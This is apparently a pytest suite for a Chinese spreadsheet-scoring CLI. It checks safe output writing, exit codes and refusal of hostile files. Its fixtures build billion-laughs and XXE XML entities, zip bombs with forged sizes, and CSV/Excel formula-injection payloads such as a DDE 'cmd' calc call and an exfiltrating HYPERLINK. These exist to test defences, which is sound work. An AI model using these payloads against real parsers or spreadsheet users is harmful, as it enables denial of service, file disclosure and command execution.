"""Issue 4: safe writing, hostile input files, formula injection and exit codes of ``jsscore score``.

Every test runs the CLI in-process (``jsscore.cli.run``) on small files generated in ``tmp_path`` and
checks the exit code (0 ok · 1 data problems · 2 usage/unreadable/environment), the console text
(a Chinese message, never a Python traceback) and what is left on disk (no partial output, no
temporary file, inputs byte-for-byte and mtime unchanged).

Expected outcomes are reasoned from the contract (RUBRIC.md, the CLI's exit-code rule): a perfect
city scores 100 (all 36 items at their maximum), a connected count above its total is an input
error (exit 1), a file the reader cannot or must not parse is exit 2.
"""

from __future__ import annotations

import codecs
import csv
import errno
import hashlib
import os
import re
import struct
import warnings
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from conftest import CASES, perfect_values

from jsscore import cli, engine
from jsscore.rubric import load

RUBRIC = load()
KEYS = list(RUBRIC.fields)  # the contract's field keys, city and region first
CITIES = list(RUBRIC.city_order)
REGION = RUBRIC.city_region()
INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A2,"附件")', "+1", "-2+3", "@SUM(1)", "\t=1",
              "=cmd|' /C calc'!A0"]
MARKERS = ["HYPERLINK", "example.invalid", "SUM(1)", "cmd|", "-2+3", "+1", "=1"]

# The message of the CLI's catch-all for an unexpected exception: never acceptable for a file problem.
INTERNAL = "程序内部错误"


@pytest.fixture(autouse=True)
def _rubric_loaded_once(monkeypatch):
    """Each ``cli.run`` reloads and re-checks the built-in rubric (~50 ms); it is immutable, so these
    tests hand the CLI the one loaded above (its loading is tested in test_rubric.py)."""
    import jsscore.rubric

    real = jsscore.rubric.load
    monkeypatch.setattr(jsscore.rubric, "load", lambda path=None: RUBRIC if path is None else real(path))


# ------------------------------------------------------------------------------------------ helpers


def text_of(key: str, v) -> str:
    """A figure as a person types it in a CSV cell (percentages with %, bools 是/否)."""
    if isinstance(v, bool):
        return "是" if v else "否"
    if isinstance(v, str):
        return v
    if RUBRIC.fields[key].type == "pct":
        return format((v * 100).normalize(), "f") + "%"
    if isinstance(v, Decimal):
        return format(v, "f")
    return str(v)


def write_xlsx(path: Path, cities=None, extra: dict[str, list] | None = None, formula_extra: str | None = None,
               changes: dict[str, dict] | None = None) -> Path:
    """A wide workbook: row 1 the field keys, one row per city with perfect figures (numbers as numbers,
    percentages as percent-formatted cells), plus optional extra columns (always written as text)."""
    cities = cities or CITIES
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False,
                                         "strings_to_urls": False})
    ws = wb.add_worksheet("原始数据")
    pct = wb.add_format({"num_format": "0.0%"})
    heads = KEYS + list(extra or {})
    for c, h in enumerate(heads):
        ws.write_string(0, c, h)
    for r, city in enumerate(cities, 1):
        vals = perfect_values()
        vals.update((changes or {}).get(city, {}))
        ws.write_string(r, 0, city)
        ws.write_string(r, 1, REGION.get(city, "苏北"))
        for c, key in enumerate(KEYS[2:], 2):
            v = vals[key]
            if isinstance(v, bool) or isinstance(v, str):
                ws.write_string(r, c, text_of(key, v))
            else:
                ws.write_number(r, c, float(v), pct if RUBRIC.fields[key].type == "pct" else None)
        for j, col in enumerate((extra or {}).values()):
            ws.write_string(r, len(KEYS) + j, col[(r - 1) % len(col)])
        if formula_extra:
            ws.write_formula(r, len(heads), formula_extra)
    wb.close()
    return path


def write_csv(path: Path, rows: list[tuple[str, str, dict]], extra: dict[str, list] | None = None) -> Path:
    """A wide UTF-8 CSV: header = field keys; rows = (city, region, changes to the perfect figures)."""
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(KEYS + list(extra or {}))
        for i, (city, region, changes) in enumerate(rows):
            vals = perfect_values()
            vals.update(changes)
            w.writerow([city, region] + [text_of(k, vals[k]) for k in KEYS[2:]]
                       + [col[i % len(col)] for col in (extra or {}).values()])
    return path


def flat(text: str) -> str:
    """Console text without whitespace and box-drawing characters (rich wraps long messages in panels)."""
    return re.sub(r"[\s\u2500-\u257f]+", "", text)


def jsscore(capsys, *args) -> tuple[int, str]:
    """Run ``jsscore ARGS`` in-process; the exit code and everything printed. Never a traceback."""
    rc = cli.run([str(a) for a in args])
    cap = capsys.readouterr()
    text = cap.out + cap.err
    assert "Traceback" not in text
    return rc, text


def fingerprint(p: Path) -> tuple[str, int, int]:
    st = p.stat()
    return hashlib.sha256(p.read_bytes()).hexdigest(), st.st_mtime_ns, st.st_size


def listing(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir()}


def has_cjk(text: str) -> bool:
    return re.search(r"[\u4e00-\u9fff]", text) is not None


def refused(capsys, path: Path, *needles: str) -> str:
    """Score ``path``: exit 2, a Chinese message naming the file and each needle, no output left."""
    out = path.parent / "结果.xlsx"
    before = listing(path.parent)
    rc, text = jsscore(capsys, "score", path, "-o", out, "--json", path.parent / "结果.json")
    assert rc == 2, text
    assert INTERNAL not in text
    assert has_cjk(text)
    assert path.name in flat(text)
    for n in needles:
        assert flat(n) in flat(text), (n, text)
    assert listing(path.parent) == before  # nothing written, no temporary file
    return text


@pytest.fixture()
def good(tmp_path) -> Path:
    return write_xlsx(tmp_path / "各市填报.xlsx")


# ============================================================================ 1. safe writing


def test_clean_run_writes_workbook_and_json_only(capsys, good):
    # 13 perfect cities: every item at its maximum → exit 0; exactly the two outputs appear.
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx", "--json", good.parent / "out.json")
    assert rc == 0, text
    assert listing(good.parent) == {good.name, "out.xlsx", "out.json"}
    wb = openpyxl.load_workbook(good.parent / "out.xlsx", read_only=True)
    assert "排名汇总" in wb.sheetnames
    wb.close()


def _report(path: Path):
    from jsscore import intake
    from jsscore.report import Report

    params = engine.parse_params(RUBRIC, [])
    data = intake.gather([path], RUBRIC, params)
    results = engine.score_all(RUBRIC, data.records, params)
    return Report(results=results, rubric=RUBRIC, params=params, inputs=data.inputs, problems=data.problems,
                  generated_at="2026-01-01 00:00:00", version="test")


def test_writer_failing_midway_leaves_no_output_and_no_temp(monkeypatch, good):
    from jsscore.report import workbook

    def broken(*a, **k):
        raise RuntimeError("simulated failure half-way through the workbook")

    rep = _report(good)
    monkeypatch.setattr(workbook, "_problems", broken)  # the sheets before it are already written
    before = listing(good.parent)
    with pytest.raises(RuntimeError):
        workbook.write(rep, good.parent / "out.xlsx")
    assert listing(good.parent) == before  # no out.xlsx, no .jsscore-* temporary file


def test_writer_failing_midway_keeps_previous_output_intact(monkeypatch, good):
    from jsscore.report import workbook

    old = good.parent / "out.xlsx"
    old.write_bytes(b"previous result")
    rep = _report(good)
    monkeypatch.setattr(workbook, "_figures", lambda *a, **k: (_ for _ in ()).throw(ValueError("boom")))
    with pytest.raises(ValueError):
        workbook.write(rep, old)
    assert old.read_bytes() == b"previous result"
    assert listing(good.parent) == {good.name, "out.xlsx"}


def test_cli_write_failing_midway_exit_2_nothing_left(capsys, monkeypatch, good):
    # The disk fills up after some sheets are written: exit 2, a message, no output, no temporary file.
    from jsscore.report import workbook

    def full(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(workbook, "_problems", full)
    before = listing(good.parent)
    fp = fingerprint(good)
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx", "--json", good.parent / "out.json")
    assert rc == 2
    assert INTERNAL not in text and "写入" in flat(text)
    assert listing(good.parent) == before
    assert fingerprint(good) == fp


def test_disk_full_while_saving_is_a_clear_message(capsys, monkeypatch, good):
    # XlsxWriter wraps the OSError of a full disk in FileCreateError; it must not read as a program bug.
    from xlsxwriter.workbook import Workbook

    def full(self):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Workbook, "_store_workbook", full)
    before = listing(good.parent)
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx")
    assert rc == 2
    assert INTERNAL not in text
    assert "写入" in flat(text) and "磁盘" in flat(text)
    assert listing(good.parent) == before


@pytest.mark.parametrize("force", [False, True])
def test_output_equal_to_input_is_refused(capsys, good, force):
    fp = fingerprint(good)
    spellings = [good, good.parent / "sub" / ".." / good.name]
    (good.parent / "sub").mkdir()
    for target in spellings:
        rc, text = jsscore(capsys, "score", good, "-o", target, *(["--force"] if force else []))
        assert rc == 2
        assert "与输入文件相同" in flat(text)
        assert fingerprint(good) == fp
    assert listing(good.parent) == {good.name, "sub"}


def test_output_through_a_link_to_the_input_is_refused(capsys, good):
    fp = fingerprint(good)
    os.link(good, good.parent / "hard.xlsx")
    os.symlink(good, good.parent / "soft.xlsx")
    for name in ("hard.xlsx", "soft.xlsx"):
        rc, text = jsscore(capsys, "score", good, "-o", good.parent / name, "--force")
        assert rc == 2, name
        assert "与输入文件相同" in flat(text)
    assert fingerprint(good) == fp


def test_json_output_equal_to_input_is_refused(capsys, tmp_path):
    src = write_csv(tmp_path / "各市.csv", [(c, REGION[c], {}) for c in CITIES])
    fp = fingerprint(src)
    rc, text = jsscore(capsys, "score", src, "-o", tmp_path / "out.xlsx", "--json", src)
    assert rc == 2
    assert "与输入文件相同" in flat(text) and "请用--json指定另一个文件名" in flat(text)  # the option at fault
    assert fingerprint(src) == fp


@pytest.mark.parametrize("force", [False, True])
def test_output_over_a_file_inside_an_input_folder_is_refused(capsys, tmp_path, force):
    # `score FOLDER` reads every spreadsheet in it: writing over one of them destroys an input.
    folder = tmp_path / "各市报送"
    folder.mkdir()
    src = write_xlsx(folder / "全省.xlsx")
    fp = fingerprint(src)
    rc, text = jsscore(capsys, "score", folder, "-o", src, *(["--force"] if force else []))
    assert rc == 2
    assert "与输入文件相同" in flat(text)
    assert fingerprint(src) == fp
    assert listing(folder) == {"全省.xlsx"}


def test_existing_output_gets_a_free_name_without_force(capsys, good):
    out = good.parent / "结果.xlsx"
    out.write_bytes(b"last year's result")
    rc, text = jsscore(capsys, "score", good, "-o", out)
    assert rc == 0, text
    assert out.read_bytes() == b"last year's result"
    second = good.parent / "结果(2).xlsx"
    assert zipfile.is_zipfile(second)
    assert "结果(2).xlsx" in flat(text) and "已另起文件名" in flat(text)
    rc, text = jsscore(capsys, "score", good, "-o", out)  # and again: (3), never over (2)
    assert rc == 0
    assert "结果(3).xlsx" in flat(text)
    assert listing(good.parent) == {good.name, "结果.xlsx", "结果(2).xlsx", "结果(3).xlsx"}


def test_existing_output_is_replaced_with_force(capsys, good):
    out = good.parent / "结果.xlsx"
    out.write_bytes(b"last year's result")
    rc, text = jsscore(capsys, "score", good, "-o", out, "--force")
    assert rc == 0, text
    assert zipfile.is_zipfile(out)
    assert "已另起文件名" not in flat(text)
    assert listing(good.parent) == {good.name, "结果.xlsx"}


def test_output_file_permissions_follow_the_umask(capsys, good):
    # The temporary file is created owner-only (0600); the finished result must not stay that way.
    old = os.umask(0o022)
    try:
        rc, _ = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx", "--json", good.parent / "out.json")
    finally:
        os.umask(old)
    assert rc == 0
    assert (good.parent / "out.xlsx").stat().st_mode & 0o777 == 0o644  # 0o666 & ~0o022
    assert (good.parent / "out.json").stat().st_mode & 0o777 == 0o644


def test_output_path_that_is_a_folder_is_refused(capsys, good):
    (good.parent / "结果").mkdir()
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "结果")
    assert rc == 2
    assert "是一个文件夹" in flat(text)
    assert listing(good.parent / "结果") == set()


def test_check_writable(tmp_path):
    from jsscore.report.safe import OutputError, check_writable

    check_writable(tmp_path / "ok.xlsx")
    assert listing(tmp_path) == set()  # the probe leaves nothing behind
    with pytest.raises(OutputError, match="不存在"):
        check_writable(tmp_path / "无此文件夹" / "x.json")


def test_json_folder_missing_leaves_no_workbook(capsys, good):
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx", "--json", good.parent / "无" / "r.json")
    assert rc == 2
    assert "不存在" in flat(text)
    assert listing(good.parent) == {good.name}


def test_output_folder_missing(capsys, good):
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "无此文件夹" / "out.xlsx")
    assert rc == 2
    assert "不存在" in flat(text)
    assert INTERNAL not in text


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root ignores folder permissions")
def test_read_only_folder(capsys, tmp_path, good):
    ro = tmp_path / "只读"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        rc, text = jsscore(capsys, "score", good, "-o", ro / "out.xlsx")
        assert rc == 2
        assert "只读" in flat(text)
        assert INTERNAL not in text
        assert listing(ro) == set()
    finally:
        ro.chmod(0o755)


def test_read_only_folder_simulated(capsys, monkeypatch, good):
    # The same path as a 0o555 folder, also when the tests run as root: creating the file is refused.
    from jsscore.report import safe

    def denied(*a, **k):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(safe.tempfile, "mkstemp", denied)
    before = listing(good.parent)
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx")
    assert rc == 2
    assert "只读" in flat(text)
    assert listing(good.parent) == before


def test_locked_target(capsys, monkeypatch, good):
    # Excel/WPS holding the old result open: replacing it fails with a permission error (Windows).
    from jsscore.report import safe

    out = good.parent / "结果.xlsx"
    out.write_bytes(b"open in Excel")

    def locked(src, dst):
        raise PermissionError(errno.EACCES, "The process cannot access the file")

    monkeypatch.setattr(safe.os, "replace", locked)
    rc, text = jsscore(capsys, "score", good, "-o", out, "--force")
    assert rc == 2
    assert "Excel/WPS" in flat(text) and "关闭后重试" in flat(text)
    assert INTERNAL not in text
    assert out.read_bytes() == b"open in Excel"
    assert listing(good.parent) == {good.name, "结果.xlsx"}


def test_inputs_never_modified(capsys, tmp_path):
    outs = tmp_path / "out"
    outs.mkdir()
    tmp_path = tmp_path / "in"
    tmp_path.mkdir()
    xlsx = write_xlsx(tmp_path / "a.xlsx", CITIES[:7])
    bad = write_xlsx(tmp_path / "b.xlsx", CITIES[7:], changes={CITIES[8]: {"net_conn_city": Decimal(11)}})
    csv_ = write_csv(tmp_path / "c.csv", [(c, REGION[c], {}) for c in CITIES[7:]])
    before = {p: fingerprint(p) for p in (xlsx, bad, csv_)}
    runs = [
        ([xlsx, csv_], 0),  # together all 13 cities
        ([xlsx, bad], 1),  # 徐州市 net_conn_city 11 > net_total_city 10: an input error
        ([tmp_path], 1),  # the folder: all three files; 徐州市 twice with different figures
        ([csv_], 0),
    ]
    for i, (inputs, want) in enumerate(runs):
        rc, text = jsscore(capsys, "score", *inputs, "-o", outs / f"out{i}.xlsx", "--json", outs / f"out{i}.json")
        assert rc == want, text
    assert {p: fingerprint(p) for p in before} == before


# ============================================================================ 2. hostile files


def _rezip(src: Path, dst: Path, replace: dict[str, bytes] | None = None, drop: tuple = (),
           add: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            zout.writestr(info.filename, (replace or {}).get(info.filename, zin.read(info.filename)))
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dst


def _with_dtd(src: Path, dst: Path, part: str, dtd: str, entity: str, comment_kb: int = 0,
              encoding: str = "utf-8") -> Path:
    """Rewrite ``part`` with a DTD in its prolog and the entity used in its first text node."""
    with zipfile.ZipFile(src) as z:
        xml = z.read(part).decode("utf-8")
    body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
    body = re.sub(r"<t>[^<]*</t>", f"<t>{entity}</t>", body, count=1) if "<t>" in body else \
        re.sub(r"<v>[^<]*</v>", f"<v>{entity}</v>", body, count=1)
    comment = f"<!--{'x' * 1024 * comment_kb}-->" if comment_kb else ""
    text = f'<?xml version="1.0" encoding="{encoding.upper()}"?>\n{comment}{dtd}\n{body}'
    data = codecs.BOM_UTF16_LE + text.encode("utf-16-le") if encoding == "utf-16" else text.encode("utf-8")
    return _rezip(src, dst, {part: data})


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                    for i in range(1, 10)) + "]>")


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_billion_laughs_refused(capsys, good, part):
    bomb = _with_dtd(good, good.parent / "laughs.xlsx", part, LAUGHS, "&lol9;")
    refused(capsys, bomb, "DTD")


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_external_entity_refused_and_not_read(capsys, good, part):
    secret = good.parent / "secret.txt"
    secret.write_text("TOP-SECRET-9271", encoding="utf-8")
    dtd = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
    evil = _with_dtd(good, good.parent / "xxe.xlsx", part, dtd, "&xxe;")
    text = refused(capsys, evil, "DTD")
    assert "TOP-SECRET" not in text


@pytest.mark.parametrize("comment_kb,encoding", [(64, "utf-8"), (0, "utf-16"), (16, "utf-16")])
def test_dtd_hidden_behind_a_long_comment_or_utf16_is_still_named(capsys, good, comment_kb, encoding):
    # A prolog is not limited to the first kilobytes, and a part may be UTF-16: the message must still
    # say what is wrong (a DTD), not just "cannot be read".
    evil = _with_dtd(good, good.parent / "hidden.xlsx", "xl/sharedStrings.xml", LAUGHS, "&lol3;",
                     comment_kb=comment_kb, encoding=encoding)
    refused(capsys, evil, "DTD")


class Parsed(BaseException):
    """Raised by a parser stub; a BaseException so no ``except Exception`` in the reader hides it."""


def _no_parse(monkeypatch):
    """Make any attempt to parse the workbook fail the test: a refusal must come before parsing."""
    import python_calamine

    def forbidden(*a, **k):
        raise Parsed("the archive was handed to a parser")

    class Calamine:
        from_filelike = staticmethod(forbidden)
        from_path = staticmethod(forbidden)

    monkeypatch.setattr(openpyxl, "load_workbook", forbidden)
    monkeypatch.setattr(python_calamine, "CalamineWorkbook", Calamine)


def test_zip_bomb_by_ratio_refused_before_parsing(capsys, monkeypatch, good):
    # 24 MiB of zeros deflate to ~24 KiB: a ratio near 1000, far above any real workbook part.
    bomb = _rezip(good, good.parent / "bomb.xlsx", add={"xl/media/image1.png": bytes(24 << 20)})
    assert bomb.stat().st_size < 200_000
    _no_parse(monkeypatch)
    refused(capsys, bomb, "压缩炸弹")


def _forge_size(path: Path, member: str, size: int) -> None:
    """Overwrite the uncompressed size that the central directory declares for ``member``."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46:pos + 46 + nlen]) == name:
            struct.pack_into("<I", data, pos + 24, size)
            path.write_bytes(bytes(data))
            return
        pos = data.find(b"PK\x01\x02", pos + 4)
    raise AssertionError(member)


def test_zip_bomb_by_declared_size_refused_before_parsing(capsys, monkeypatch, good):
    # A part that says it unpacks to 3.9 GiB: refused on the header alone.
    bomb = _rezip(good, good.parent / "huge.xlsx")
    _forge_size(bomb, "xl/worksheets/sheet1.xml", 0xF000_0000)
    _no_parse(monkeypatch)
    refused(capsys, bomb, "压缩炸弹")


def test_ods_with_understated_sizes_refused(capsys, monkeypatch, tmp_path):
    # An OpenDocument file goes to calamine, which does not stop at the declared size: a part whose
    # header understates what it unpacks to is a damaged/hostile archive and is refused first.
    ods = tmp_path / "伪造.ods"
    with zipfile.ZipFile(ods, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content>" + " " * 500_000 + "</office:document-content>")
    _forge_size(ods, "content.xml", 1000)
    _no_parse(monkeypatch)
    refused(capsys, ods, "损坏")


UNREADABLE = [
    ("乱码.xlsx", "这不是工作簿，只是一段文字。\n".encode() * 20, "不是有效的电子表格文件"),
    ("空.xlsx", b"", "空文件"),
    ("空.csv", b"", "空文件"),
    ("网页.xls", b"<html><body><table><tr><td>city</td></tr></table></body></html>", "网页"),
    ("报告.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF"),
    ("二进制.csv", b"city,region\n\x00\x01\x02\xff\xfe\x00\x00MZ\x90\x00", "二进制"),
    ("尾部二进制.csv", "city,region,leading_group\n南京市,苏南,是\n".encode() * 3000 + bytes(64), "二进制"),
    ("unicode.csv", codecs.BOM_UTF16_LE + "city\tregion\n南京市\t苏南\n".encode("utf-16-le"), "UTF-16"),
    ("普通压缩包.xlsx", None, "不是Excel工作簿"),
]


@pytest.mark.parametrize("name,data,needle", UNREADABLE, ids=[u[0] for u in UNREADABLE])
def test_unreadable_files_exit_2_with_a_message(capsys, tmp_path, name, data, needle):
    path = tmp_path / name
    if data is None:
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("readme.txt", "a zip, not a workbook")
    else:
        path.write_bytes(data)
    refused(capsys, path, needle)


def test_truncated_xlsx(capsys, good):
    whole = good.read_bytes()
    for cut in (len(whole) // 2, len(whole) - 30, 100):
        part = good.parent / f"截断{cut}.xlsx"
        part.write_bytes(whole[:cut])
        refused(capsys, part, "损坏")
        part.unlink()


def test_damaged_member_is_a_message_not_a_crash(capsys, good):
    # Central directory intact, compressed bytes of a part overwritten: decompression fails.
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as z:
        info = z.getinfo("xl/sharedStrings.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for k in range(start + 8, start + 40):
        data[k] ^= 0xFF
    broken = good.parent / "坏块.xlsx"
    broken.write_bytes(bytes(data))
    refused(capsys, broken, "损坏")


def test_workbook_xml_missing(capsys, good):
    gone = _rezip(good, good.parent / "缺少.xlsx", drop=("xl/workbook.xml",))
    refused(capsys, gone, "xl/workbook.xml")


def _ole(names: list[str]) -> bytes:
    """A minimal compound-file (OLE2) image: the signature, a header and a directory sector holding
    the given stream names (UTF-16LE, as Office writes them)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)
    struct.pack_into("<I", header, 48, 0)  # first directory sector
    directory = bytearray(512)
    for i, n in enumerate(names[:4]):
        raw = (n + "\0").encode("utf-16-le")
        directory[i * 128:i * 128 + len(raw)] = raw
        struct.pack_into("<H", directory, i * 128 + 64, len(raw))
        directory[i * 128 + 66] = 5 if i == 0 else 2
    return bytes(header) + bytes(directory)


def test_encrypted_workbook(capsys, tmp_path):
    enc = tmp_path / "加密.xlsx"
    enc.write_bytes(_ole(["Root Entry", "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"]))
    refused(capsys, enc, "密码")


def test_encrypted_workbook_from_the_cases_folder(capsys, tmp_path):
    src = CASES / "C17_password_encrypted.xlsx"
    if not src.exists():
        pytest.skip("shared cases not present")
    dst = tmp_path / src.name
    dst.write_bytes(src.read_bytes())
    refused(capsys, dst, "密码")


def test_garbage_ole_file(capsys, tmp_path):
    bad = tmp_path / "旧版.xls"
    bad.write_bytes(_ole(["Root Entry", "Workbook"]) + os.urandom(256))
    refused(capsys, bad)


def test_lock_file_named_directly(capsys, tmp_path):
    lock = tmp_path / "~$各市填报.xlsx"
    lock.write_bytes(b"\x0bWPS user\x00" * 10)
    refused(capsys, lock, "锁定文件")


# ============================================================================ 3. formula injection


def _cells(path: Path):
    """Every cell of every sheet of an output workbook (formulas as written, not cached values)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl: "Conditional Formatting extension is not supported"
        wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c
    wb.close()


def _assert_inert(path: Path) -> list:
    hits = []
    for sheet, c in _cells(path):
        if c.data_type == "f":
            assert not any(m.casefold() in str(c.value).casefold() for m in MARKERS), (sheet, c.coordinate, c.value)
        if isinstance(c.value, str) and any(m in c.value for m in ("HYPERLINK", "cmd|", "@SUM", "-2+3")):
            assert c.data_type == "s", (sheet, c.coordinate, c.value)
            hits.append((sheet, c.coordinate, c.value))
    return hits


def test_formula_text_in_a_remark_column_stays_inert(capsys, tmp_path):
    src = write_xlsx(tmp_path / "备注.xlsx", extra={"备注": INJECTIONS},
                     formula_extra='HYPERLINK("http://example.invalid/?live","点击")')
    rc, text = jsscore(capsys, "score", src, "-o", tmp_path / "out.xlsx", "--json", tmp_path / "out.json")
    assert rc == 0, text
    _assert_inert(tmp_path / "out.xlsx")


def test_formula_text_as_a_city_name_stays_text(capsys, tmp_path):
    # An unknown unit is accepted with an explicit region (RUBRIC.md "Cities and regions"); its name is
    # then echoed in every sheet. "+1" as an upload rate is a plain number without %: read as 100 % with
    # a warning (pct_guessed) that quotes the typed value "+1" in 问题清单.
    evil = "=cmd|' /C calc'!A0"
    rows = [(c, REGION[c], {}) for c in CITIES] + [(evil, "苏北", {"upload_rate_pension": "+1"})]
    src = write_csv(tmp_path / "注入.csv", rows, extra={"备注": INJECTIONS})
    rc, text = jsscore(capsys, "score", src, "-o", tmp_path / "out.xlsx", "--json", tmp_path / "out.json")
    assert rc == 0, text
    hits = _assert_inert(tmp_path / "out.xlsx")
    assert any("cmd|" in v for _, _, v in hits)  # the name is there, as text
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    ws = wb["问题清单"]
    quoted = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert any(c.value == "+1" for c in quoted)
    for c in quoted:  # every message and quoted value is a string cell
        if isinstance(c.value, str):
            assert c.data_type == "s", (c.coordinate, c.value)
        assert c.data_type != "f"
    wb.close()


# ============================================================================ 4. exit codes, --debug


def test_exit_0_1_2(capsys, tmp_path, good):
    ok = jsscore(capsys, "score", good, "-o", tmp_path / "a.xlsx")
    assert ok[0] == 0
    # conn 11 > total 10 in 南京市: an input error, exit 1, nothing written
    bad = write_xlsx(tmp_path / "坏.xlsx", changes={"南京市": {"net_conn_city": Decimal(11)}})
    rc, text = jsscore(capsys, "score", bad, "-o", tmp_path / "b.xlsx", "--json", tmp_path / "b.json")
    assert rc == 1
    assert "net_conn_city" in flat(text)
    assert not (tmp_path / "b.xlsx").exists() and not (tmp_path / "b.json").exists()
    # missing input, bad --param value, unknown --param key: exit 2 with a Chinese message
    for args in (["score", tmp_path / "无此文件.xlsx"],
                 ["score", good, "--param", "network_coverage_target=abc"],
                 ["score", good, "--param", "no_such_key=1"]):
        rc, text = jsscore(capsys, *args)
        assert rc == 2, args
        assert has_cjk(text) and INTERNAL not in text
    assert listing(tmp_path) == {good.name, "a.xlsx", "坏.xlsx"}


@pytest.mark.parametrize("args", [["score", "--no-such-option"], ["score"], ["no-such-command"]])
def test_usage_errors_exit_2_without_traceback(capsys, args):
    rc, text = jsscore(capsys, *args)
    assert rc == 2
    assert "用法错误" in flat(text)


def test_internal_error_without_debug_is_a_chinese_message(capsys, monkeypatch, good):
    def boom(*a, **k):
        raise RuntimeError("simulated bug in the engine")

    monkeypatch.setattr(engine, "score_all", boom)
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx")
    assert rc == 2
    assert INTERNAL in text and "--debug" in text
    assert "simulated bug" not in text
    assert listing(good.parent) == {good.name}


def test_debug_shows_the_exception(capsys, monkeypatch, good):
    def boom(*a, **k):
        raise RuntimeError("simulated bug in the engine")

    monkeypatch.setattr(engine, "score_all", boom)
    with pytest.raises(RuntimeError, match="simulated bug"):
        cli.run(["--debug", "score", str(good), "-o", str(good.parent / "out.xlsx")])
    capsys.readouterr()
    assert listing(good.parent) == {good.name}
    # --debug does not stick: the next run without it maps the same error to exit 2 again
    rc, text = jsscore(capsys, "score", good, "-o", good.parent / "out.xlsx")
    assert rc == 2 and INTERNAL in text


def test_no_traceback_for_broken_inputs_in_a_folder(capsys, tmp_path):
    # One unreadable file among good ones: exit 2, the message names the bad file.
    folder = tmp_path / "in"
    folder.mkdir()
    write_xlsx(folder / "a.xlsx", CITIES[:6])
    (folder / "b.xlsx").write_bytes(b"PK\x03\x04 truncated")
    rc, text = jsscore(capsys, "score", folder, "-o", tmp_path / "out.xlsx")
    assert rc == 2
    assert "b.xlsx" in flat(text) and INTERNAL not in text
    assert listing(tmp_path) == {"in"}


def test_missing_and_special_inputs(capsys, tmp_path):
    # A folder given where a file is expected, and a path that is not a regular file.
    rc, text = jsscore(capsys, "score", tmp_path / "none", "-o", tmp_path / "x.xlsx")
    assert rc == 2 and has_cjk(text)
    if os.name == "posix" and Path("/dev/null").exists():
        rc, text = jsscore(capsys, "score", "/dev/null", "-o", tmp_path / "x.xlsx")
        assert rc == 2 and has_cjk(text) and INTERNAL not in text
    assert listing(tmp_path) == set()
